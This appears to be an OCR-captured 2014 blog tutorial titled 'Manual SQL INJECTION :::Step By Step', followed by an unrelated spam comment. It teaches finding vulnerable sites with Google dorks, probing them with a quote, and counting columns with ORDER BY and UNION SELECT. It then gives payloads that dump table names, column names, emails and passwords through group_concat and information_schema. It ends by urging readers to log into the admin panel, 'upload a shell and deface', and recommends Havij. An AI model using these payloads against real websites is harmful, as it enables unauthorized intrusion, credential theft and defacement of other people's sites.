Thursday, November 6, 2014

Manual SQL INJECTION :::Step By Step

Manual SQL INJECTION :::Step By Step

Things Required :1.SQL Vulnerable Website (OfCourse :P)2.Pateince3.Brain xD !

The beauty of searching for targets is a lot easier than it sounds, the most commonmethod of searching is (Dorks). Dorks are an input query into a search engine (Google) whichattempt to find websites with the given texxt provided in the dork itself. So navigate toGoogle and copy the following into the search box:

inurl:"products.php?prodID="This search will return websites affiliated with Google with "products.php?prodID=" withinthe URL.You can find a wide range of dorks to use by searching the forum.I advise you to create your own dorks, be original, but at the same time unique, think ofsomething to use that not many people would have already searched and tested.An example of a dork I wouldmake up:inurl:"/shop/index.php?item_id=" & ""So using your own dorks isn't a bad thing at all, sometimes your dorks wont work, nevermindeven I get it..

Testing Targets for VulnerabilitiesIt's important that this part's done well. I'll explain this as simply as I can.After opening a URL found in one of your dork results on Google you now need to test the

site if it's vulnerable to SQL injection.

Example:http: //

To test, just simply add an asterik ' at the end of the URL

Example:http: //'

How to tell if the sites vulnerable:- Missing text, images, spaces or scripts from the original page.- Any kind of typical SQL error (fetch_array) etc.

So if the website you're testing produces any of the above then the site is unfortunately

vulnerable, which is where the fun starts.

Finding Columns & the Vulnerable ColumnsAs I noted in the first section of the tutorial I advise you do pretty much everythingmanually with SQL injection, so by using the following commands (providing they're followedcorrectly) you will begin to see results in no time

Example:http: //'^^^IF THE SITE IS VULNERABLERefer to the following to checking how many columns there are.(order+by) the order by function tells the database to order columns by an integer (digite.g. 1 or 2), no errors returned means the column is there, if there's an error returned thecolumn isnt there < No < No < No < ERROR

From using order+by+ command and incremating the number each time until the pagedisplays an error is the easiest method to find vulnerable columns, so from the examplesabove when attempting to order the columns by 4 there's an error, and so column 4 doesn'texist, so there's 3 columns.Finding Vulnerable ColumnsOk so let's say we were working on the site I used above, which has 3 columns. We now needto find out which of those three coluns are vulnerable. Vulnerable columns allow us tosubmit commands and queries to the SQL database through the URL. (union+select)Selects all columns provided in the URL and returns the value of the vulnerable column e.g.

2.,2,3The site should refresh, not with an error but with some content missing and a number isdisplayed on the page, either 1, 2 or 3 (as we selected the three columns in the above URLto test for column vulnerability).Sometimes the page will return and look completely normal, which isn't a problem. Some sitesyou are required to null the value you're injecting into.In simpler terms, the =23 you see in the above URL after Client_id must be nulled in orderto return with the vulnerable column. So we simply put a hyphen (minus sign) before the 23like so: -23

So the URL should now look something like this:,2,3

Now that should work, let's say the page refreshes and displays a 2on the page, thus 2being the vulnerable column for us to inject into.

Obtaining the SQL VerisonEasier said than done, using the information found in the above sections e.g. amount ofcolumns and the vulnerable column. We now use a command (@@version) and in some casesa series of commands to determine what the SQL version is on the current site. Version 4 orversion 5. See the example below to view what a URL should look like when the versioncommand has been inserted into the URL replacing the number 2 as 2 is the vulnerable columnin the example site.,@@version,3

What you need to look for is a series of numbers e.g:5.0.89-community4.0.45-log

If the above failes and the site justreturns an error or displays normally then we need touse the convert function in order for the server to understand the command, don't worrythough this is usually the only thing you need to convert and it's on a rare occasion wherethis is the case.

So, if the example site returned an error we need to replace @@version with the convert()

function:convert(@@version using latin1)

So the example site will now look like,convert(@@version using latin1),3

Now if the page still decides to not return the error then the query must be hexxed:unhex(hex(@@version))

So the example site will now look like,unhex(hex(@@version)),3

Depending on which version the SQL server it is, whether it be 4, or 5 the queries forobtaining data from both versions are different, version 4 and 5 tables are explained below

Version 4- 1. Obtaining Tables and Columns

You will notice that obtaining tables and columns from version 4 MySQL servers is a littlemore time consuming andconfusing at times as we have to guess pretty much everyhing.Because version 5 is more up to date and has information_schema which the database andtables are stored in, MySQL version 4 doesn't.Providing the MySQL version of the website is 4, we must do the following.

So, back to the example,@@version,3

We must now go back to the original URL which,2,3

This is where the guessing begins, we need to guess table names.How can we tell if the table name I guess exists?The same as where we tested for the amount of columns.If no error is produced then the table guessed exists.Is there is an error then the table guessed doesn't exist, so just try another.So we use the (from) command followed by the table name you are looking to seeexists.,2,3 from admin

Usual tables most people search for consist of obtaining user data, so again, be creativejust like with the dorks, common table names I use:tbl_user, tbl_admin, tbl_access,user, users, member, members, admin, admins, customer, customers, orders, phpbb_users, phpbb_admins

So if we tried the following as an example:,2,3 from admin^^^Error,2,3 from user^^^Error,2,3 from users^^^^^No Error

Now which table do you thinkexists..?The table users exists

We are now required to guess column names from the existing table. So thinking logically,which labelled columns within this table would represent data? Columns such as:first_name, last_name, email, username, password, pass, user_id^^^Typical columns found in the users table.

So we now must think back to which column is vulnerable (in this case 2) and so we'll usethe URL and replace 2 with the column name you are attempting to see if exists in the users

table. Let's try a few of the typicals listed,f_name,3 from users^^^^Error,l_name,3 from users^^^Error,address1,3 from users^^^Error,email,3 from users^^^^^No Error

From the above we can clearly see that the column email exists within the table users, thepage should return displaying data (most probably an email address) or the data you areextracting i.e if you pulled password from users and the column exists thefirst passwordwithin that column will be displayed on screen.

2. CommandsFrom here we will be able to use certain commands to determine the amount of data we pullfrom the database or which exact record you wish to pull from a column.concat()We will now use the concat() function to extract data from multiple columns if only onecolumn is vulnerable, in this case remembering back the vulnerable column is 2, so we canonly query in within this space.

Command: concat(columnname1,0x3a,columnname2)0x3a is the hex value of a semi-colon : so the output data from the query will be displayed

like:this,concat(email,0x3a,password),3 from users

The above will output the first email and password found in the table.


We will now use the group_concat() function to group all data from one column and displaythem on one page. Same as the above concat() command just grouping all records together and displaying them as one.,group_concat(email,0x3a,pass),3 from

usersNow the above should return ALL e-mails and passwords listed in the email and passwordscolumn within the users table.

limit 0,1The limit command is somewhat useful if you're looking for a specific data record. Say forinstance we wanted to obtain the 250th record foremails in the table users. We would use:limit 250,1 Thus displaying the 250th e-mail within the data.,email,3+from+users+limit+250,1

Version 5- 1. Obtaining Table Names

Now after that painstaking version 4 malakey lol, we're onto version 5, the easiest andquickest version of MySQL to hack, so many things are already done for you, so realise thepossibilities and be imaginative.Obtaining table names for version 5 MySQL servers is simple, using information_schema.tables

< For table extraction

So, example of the URL from earlier, but imagine it is now version 5,table_name,3+from+information_schema.tables

The above URL will display only the first table name which is listed in the database

information_schema. So using group_concat()just like in version 4 works with the same principle.,group_concat(table_name),3 from information_schema.tables

We should now be able to see all the tables listed on one page, sometimes the last tableswill be cut off the end because a portion of the page will be covered in table names frominformation_schema which aren't useful for us so really, I usually prefer to display tablenames from the primary database rather than information_schema, we can do the following by

using the +where+table_schema=database() command:where => A query for selectiontable_schema => Schema oftables from a databasedatabase() => In context the primary database, just leave it as it is.,group_concat(table_name),3+from+information_schema.tables+where+table_schema=database()

Example List of tables:About, Admin, Affiliates, Access, Customer, Users

Now all tables should be displayed from the primary database, take your pick and get readyto extract columns.

2. Obtaining Column Names from Table Names

Ok, suggesting from the above we decided to obtain column information from the table Admin.Using information_schema once again but this time we will beusing:informaiton_schema.columnsinstead ofinformtion_schema.tables (as we want to extract columns now, not tables)The thing with obtaining column information is similar to the principle of obtaining columns in version 4, except we dont have to guess, once again just one command lists them all when combines with group_concat()

Command:Edit the vulnerable column (in this case 2) to:column_name instead of table_name

And the end of the URL to:+from+information_schema.columns where table_name=TableNameHEX,group_concat(column_name),3 from information_schema.columns where table_name=Admin

Now the above will return an error because of the way the command is used at the end of the URL (where table_name=Admin)We must HEX the table name, in this case AdminI use THIS website to for converting Text to Hex.

The HEX of Admin is: 41646d696eNow we must add 0x (MySQL integer) at the front of the HEX, which should now look like this: 0x41646d696eAnd pop it onto the end of the URL replacing Admin, so the URL should look something like the following.,group_concat(column_name),3 from information_schema.columns where table_name=0x41646d696e

Now all columns from the table Admin will be displayed on the page, just the same as version 4 we will use the same command to extract data from certain columns within the table.

Say for instance the following columns were displayed:username, password, id, admin_user

We would be able to do the same as version 4, replacing the vulnerable column (2) with a column name (one of the above) i.e. username and password using the concat() function.,concat(username,0x3a,password),3+from+Admin

Will display the first username and password data entries from the columns username and password in the table Admin.Now, Find the admin panel of the website, enter the user and password. Upload a shell and deface xD !!

Finding Admin Panel !There are many ways to find an admin table , but i will recommendaccording to my personal experience to USE HAVIJ 1.16 or above for FINDING an Admin Panel !

Thank You !


  1. When it comes to computer electronics, the consumer is well advised to do some Internet research on each component before purchase. After you have considered your options and decided on a couple of monitors you like, do an online search for consumer reviews. best graphics card 2016

